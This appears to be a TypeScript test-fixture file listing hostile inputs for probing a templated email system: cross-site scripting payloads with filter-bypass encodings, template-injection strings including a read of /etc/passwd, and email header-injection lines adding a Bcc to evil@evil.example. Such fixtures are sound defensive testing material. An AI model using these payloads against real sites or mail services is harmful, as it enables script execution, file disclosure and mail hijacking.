/** What strangers type to get it run or fetched: in pages, attributes, addresses, templates, sheets of style. */
export const scripts = [
  '<script>x9()</script>', '<img src=x onerror=x9()>', '"><svg/onload=x9()>', "'><script>x9()</script>", '</title><script>x9()</script>', '</textarea><script>x9()</script>', '</script><script>x9()</script>', '<!--<script>x9()</script>-->',
  '<iframe src=javascript:x9()>', '<a href=javascript:x9()>x</a>', 'javascript:x9()', 'JaVaScRiPt&colon;x9()', 'data:text/html,<script>x9()</script>', '<math><mi//xlink:href="data:x,<script>x9()</script>">', '<svg><style><img src=x onerror=x9()></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=x9()>">', '{{constructor.constructor("x9()")()}}', '${x9()}', '<%= x9() %>', '#{x9()}', '[[x9()]]', '\\u003cscript\\u003ex9()\\u003c/script\\u003e', '\u2028x9()', '\u2029x9()', '&lt;script&gt;x9()&lt;/script&gt;', '%3Cscript%3Ex9()%3C/script%3E',
  '<body onload=x9()>', '<details open ontoggle=x9()>', '<input autofocus onfocus=x9()>', '<form action=javascript:x9()><button>', '<object data=javascript:x9()>', '<embed src=javascript:x9()>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example>',
  '<style>@import "//evil.example"</style>', '\u0000<script>x9()</script>', '＜script＞x9()＜/script＞', '<scr\u0000ipt>x9()</script>', '<sCrIpT/x>x9()</ScRiPt>', "');x9();//", '`;x9();//',
]

/** What they type to be read as a template, or as another line of a mail. */
export const templateTexts = [
  '{{ sender.email }}', '{{sender.email}}', '{{- sender.email -}}', '{% include "/etc/passwd" %}', '{% render "x" %}', '{% layout "x" %}', '{% if true %}x9(){% endif %}', '{% for i in (1..1000000) %}x{% endfor %}', '{% raw %}', '{% endraw %}', '{% comment %}', '{{ person', '{% if',
  '{{ "a" | append: "b" }}', '{{ person.fullName | append: sender.email }}', '{{ this }}', '{{ constructor }}', '{{ __proto__.x }}', '[[person.title]]', '[[x]]', '{{{{ sender.email }}}}', '{ { sender.email } }', '{{ sender.email | upcase }}', '}}', '%}', '{{', '{%', '}} {{ sender.email }} {{',
  'x\r\nBcc: evil@evil.example', 'x\nBcc: evil@evil.example', 'x\r\n\r\n<script>x9()</script>', '\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n', 'x\u2028Bcc: evil@evil.example', '"x" <evil@evil.example>, y', '=?utf-8?q?x=0d=0aBcc:_evil?=', '王\r\nSubject: x', '\u202ex', '\u0000', '-- \nhttp://evil.example/u/x', 'a'.repeat(3_000),
] as const
